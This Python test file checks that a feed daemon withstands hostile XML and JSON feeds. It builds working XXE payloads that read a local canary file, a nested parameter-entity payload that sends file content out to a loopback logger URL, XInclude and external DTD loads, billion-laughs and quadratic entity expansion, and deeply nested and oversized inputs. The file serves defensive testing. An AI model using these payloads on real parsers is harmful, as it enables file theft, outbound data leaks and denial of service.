"""test_hostile_xml.py — XML (and JSON) attacks through the running daemon.

Every attack document is served by the loopback fixture as a feed, next to
two well-behaved feeds, and fetched by the real feedd. Containment means: the
daemon stays up; the canary file's content is never stored (not in the API's
answers, not in the SQLite file or its WAL); the loopback logger that the
documents point at is never contacted; peak resident memory stays bounded;
the good feeds are stored as usual; every answer of the API is valid JSON.
"""
import json
import os
import shutil
import tempfile
import time
import unittest

from fixture_server import FixtureServer, render_rss
from harness import Feedd, SANITIZED, wait_until
from hostile import Logger, file_contains, peak_rss_kib

CANARY = b"CANARY-5f3a9e-do-not-store"


def laughs():
    ents = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else "lol%d" % (i - 1)
        ents.append('<!ENTITY lol%d "%s">' % (i, ("&%s;" % prev) * 10))
    return ('<?xml version="1.0"?><!DOCTYPE rss [%s]>'
            '<rss version="2.0"><channel><title>&lol9;</title>'
            '<item><guid>l1</guid><title>&lol9;</title></item></channel></rss>'
            % "".join(ents)).encode()


def quadratic():
    return ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "%s">]>'
            '<rss version="2.0"><channel><title>q</title><item><guid>q1</guid>'
            '<title>%s</title></item></channel></rss>'
            % ("a" * 100000, "&a;" * 10000)).encode()


class HostileXmlTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="feedd-hostile-xml-")
        cls.canary = os.path.join(cls.tmp, "canary.txt")
        with open(cls.canary, "wb") as f:
            f.write(CANARY + b"\n")
        cls.logger = Logger()
        cls.srv = FixtureServer().start()
        canary_url = "file://" + cls.canary
        log = cls.logger.url
        rss = ('<?xml version="1.0"?>%s<rss version="2.0" '
               'xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>%s</title>'
               '<item><guid>%s-1</guid><title>%s</title><description>%s</description>'
               '</item></channel></rss>')

        def doc(name, doctype="", title="t", desc="d"):
            return (rss % (doctype, name, name, title, desc)).encode()

        deep = (b'<rss version="2.0"><channel><title>deep</title><item><guid>d1</guid>'
                b'<description>' + b"<a>" * 100000)
        huge_attr = (b'<rss version="2.0"><channel><title>attr</title><item><guid>h1</guid>'
                     b'<enclosure url="http://example.org/' + b"a" * (10 << 20) +
                     b'" type="audio/mpeg"/></item></channel></rss>')
        cls.attacks = {
            "xxe_file": doc("xxe_file", '<!DOCTYPE rss [<!ENTITY x SYSTEM "%s">]>' % canary_url,
                            "&x;"),
            "xxe_http": doc("xxe_http", '<!DOCTYPE rss [<!ENTITY x SYSTEM "%s">]>' % log("/ent"),
                            "&x;"),
            "xxe_attr": doc("xxe_attr", '<!DOCTYPE rss [<!ENTITY x SYSTEM "%s">]>' % canary_url,
                            "a", '<a href="&x;">b</a>').replace(b"<title>xxe_attr",
                                                                  b"<title foo='&x;'>xxe_attr"),
            "dtd_file": doc("dtd_file", '<!DOCTYPE rss SYSTEM "%s">' % canary_url,
                            "x &passwd; y"),
            "dtd_http": doc("dtd_http", '<!DOCTYPE rss PUBLIC "-//x//y" "%s">' % log("/dtd"),
                            "x &passwd; y"),
            "pe_file": doc("pe_file", '<!DOCTYPE rss [<!ENTITY %% p SYSTEM "%s"> %%p;]>'
                           % canary_url),
            "pe_http": doc("pe_http", '<!DOCTYPE rss [<!ENTITY %% p SYSTEM "%s"> %%p;]>'
                           % log("/pe")),
            "pe_nested": doc("pe_nested",
                             '<!DOCTYPE rss [<!ENTITY %% f SYSTEM "%s">'
                             '<!ENTITY %% e "<!ENTITY &#x25; x SYSTEM \'%s?%%f;\'>"> %%e; %%x;]>'
                             % (canary_url, log("/oob"))),
            "xinclude": doc("xinclude", "", "t",
                            '<xi:include href="%s" parse="text"/>' % canary_url)
            .replace(b"<description>", b"<content:encoded xmlns:content="
                     b"\"http://purl.org/rss/1.0/modules/content/\">", 1)
            .replace(b"</description>", b"</content:encoded>", 1),
            "stylesheet": ('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="%s"?>'
                           '<rss version="2.0"><channel><title>s</title><item><guid>s1</guid>'
                           '<title>styled</title></item></channel></rss>' % log("/xsl")).encode(),
            "laughs": laughs(),
            "quadratic": quadratic(),
            "deep": deep,
            "huge_attr": huge_attr,
            "bad_utf8": (b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
                         b'<title>bad \xff\xfe utf8 \xc3</title><item><guid>u1</guid>'
                         b'<title>broken \xed\xa0\x80 surrogate \xf8\x88\x80\x80\x80</title>'
                         b'</item></channel></rss>'),
            "nul_bytes": (b'<rss version="2.0"><channel><title>nul\x00title</title>'
                          b'<item><guid>n\x001</guid><title>a\x00b</title></item>'
                          b'<item><guid>n2</guid><title>after\x00</title></item>'
                          b'</channel></rss>'),
            "json_deep": b'{"version": "https://jsonfeed.org/version/1.1", "items": ' +
                         b"[" * 100000,
            "json_huge": b'{"version": "https://jsonfeed.org/version/1.1", "title": "' +
                         b"j" * (4 << 20) + b'", "items": [{"id": "j1", "content_text": "x"}]}',
        }
        for name, body in cls.attacks.items():
            cls.srv.set_feed(name)
            with cls.srv.httpd.state.lock:
                f = cls.srv.httpd.state.feed(name)
                f.body = body
                if name.startswith("json"):
                    f.content_type = "application/feed+json"
        cls.good = ["good1", "good2"]
        for g in cls.good:
            cls.srv.set_feed(g, items=[{"guid": "%s-%d" % (g, i), "title": "%s item %d" % (g, i)}
                                       for i in range(3)])
        # An attack in 1-byte writes: the fetcher pushes it to the parser in
        # tiny chunks, so the declaration is split across parse_chunk calls.
        cls.dribble = doc("dribble", '<!DOCTYPE rss [<!ENTITY x SYSTEM "%s">]>' % canary_url,
                          "&x;")
        cls.srv.httpd.RequestHandlerClass.route_dribble = _route_dribble(cls.dribble)

        names = list(cls.attacks) + cls.good
        conf = ["[daemon]", "max_fetches = 8", "per_host = 8", "host_gap = 0s", "",
                "[defaults]", "interval = 1h", "allow_private = yes", "max_size = 16M",
                "timeout = 30s", ""]
        for n in names:
            conf += ["[feed %s]" % n, "url = %s" % cls.srv.url("/feed/" + n), ""]
        conf += ["[feed dribble]", "url = %s" % cls.srv.url("/dribble"), ""]
        cls.names = names + ["dribble"]
        cls.d = Feedd("\n".join(conf))

        def all_fetched():
            feeds = cls.d.get("/v1/feeds").json()["feeds"]
            return len(feeds) == len(cls.names) and all(f["last_fetch"] for f in feeds)
        cls.fetched = wait_until(all_fetched, timeout=60)

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()
        cls.srv.stop()
        cls.logger.close()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def test_every_attack_is_fetched_and_the_daemon_stays_up(self):
        self.assertTrue(self.fetched, self.d.read_log()[-3000:])
        self.assertIsNone(self.d.proc.poll())
        r = self.d.get("/v1/status")
        self.assertEqual(r.status, 200)

    def test_the_canary_is_never_stored(self):
        self.assertTrue(self.fetched)
        body = self.d.get("/v1/items?limit=1000").body
        self.assertNotIn(CANARY, body)
        self.assertNotIn(CANARY, self.d.get("/v1/feeds").body)
        self.assertNotIn(CANARY, self.d.get("/v1/items?limit=1000&format=tsv").body)
        self.assertNotIn(CANARY, self.d.get("/v1/events?after=0").body)
        for suffix in ("", "-wal"):
            self.assertFalse(file_contains(os.path.join(self.d.state_dir, "feedd.db" + suffix),
                                           CANARY))

    def test_the_logger_is_never_contacted(self):
        self.assertTrue(self.fetched)
        self.assertEqual(self.logger.hits, [])

    def test_entity_declarations_are_refused_with_a_clear_error(self):
        self.assertTrue(self.fetched)
        for name in ("xxe_file", "xxe_http", "xxe_attr", "pe_file", "pe_http", "pe_nested",
                     "laughs", "quadratic", "dribble"):
            f = self.d.get("/v1/feeds/" + name).json()
            self.assertTrue(f["last_error"], "%s: %s" % (name, f))
            self.assertEqual(f["items"], 0, name)
            self.assertGreaterEqual(f["counters"]["errors_parse"], 1, name)

    def test_deep_nesting_is_refused(self):
        self.assertTrue(self.fetched)
        for name in ("deep", "json_deep"):
            f = self.d.get("/v1/feeds/" + name).json()
            self.assertTrue(f["last_error"], "%s: %s" % (name, f))
            self.assertEqual(f["items"], 0, name)

    def test_huge_values_are_truncated_or_refused(self):
        self.assertTrue(self.fetched)
        items = self.d.get("/v1/items?limit=1000").json()["items"]
        for it in items:
            for enc in it["enclosures"]:
                self.assertLess(len(enc["url"]), 2 << 20)
        # The field cap (1 MiB by default) holds for XML and JSON Feed alike.
        for name in ("huge_attr", "json_huge"):
            f = self.d.get("/v1/feeds/" + name).json()
            self.assertLessEqual(len((f["title"] or "").encode()), 1 << 20, name)
            for it in self.d.get("/v1/feeds/%s/items" % name).json()["items"]:
                self.assertLess(len(json.dumps(it)), 2 << 20, name)

    def test_external_dtds_and_stylesheets_are_not_loaded(self):
        self.assertTrue(self.fetched)
        items = {it["feed"]: it for it in self.d.get("/v1/items?limit=1000").json()["items"]}
        # The document is read; the unknown entity stays text.
        for name in ("dtd_file", "dtd_http"):
            if name in items:
                self.assertNotIn("root:", items[name]["title"] or "")
        self.assertEqual(self.logger.hits, [])

    def test_invalid_utf8_and_nul_bytes_give_valid_json(self):
        self.assertTrue(self.fetched)
        for fmt in ("", "&format=ndjson"):
            body = self.d.get("/v1/items?limit=1000" + fmt).body
            text = body.decode("utf-8")   # raises on invalid UTF-8
            for line in (text.splitlines() if fmt else [text]):
                json.loads(line)
            self.assertNotIn("\x00", text)
        items = self.d.get("/v1/items?feed=bad_utf8&feed=nul_bytes").json()["items"]
        for it in items:
            self.assertNotIn("\x00", json.dumps(it, ensure_ascii=False))

    def test_good_feeds_are_unaffected(self):
        self.assertTrue(self.fetched)
        for g in self.good:
            f = self.d.get("/v1/feeds/" + g).json()
            self.assertIsNone(f["last_error"], f)
            self.assertEqual(f["items"], 3)

    def test_memory_stays_bounded(self):
        self.assertTrue(self.fetched)
        peak = peak_rss_kib(self.d.proc.pid)
        # Sanitizers keep shadow memory and quarantine; valgrind is not
        # measured here (its own process is).
        bound = (768 if SANITIZED else 160) * 1024
        print("\n# peak RSS after every attack: %d KiB" % peak)
        self.assertLess(peak, bound)


def _route_dribble(body):
    def route(self, parts, q):
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        # Small writes, flushed one by one: the declaration arrives in pieces.
        for i in range(len(body)):
            self.wfile.write(body[i:i + 1])
            self.wfile.flush()
            if i % 8 == 0:
                time.sleep(0.001)
    return route


if __name__ == "__main__":
    unittest.main()
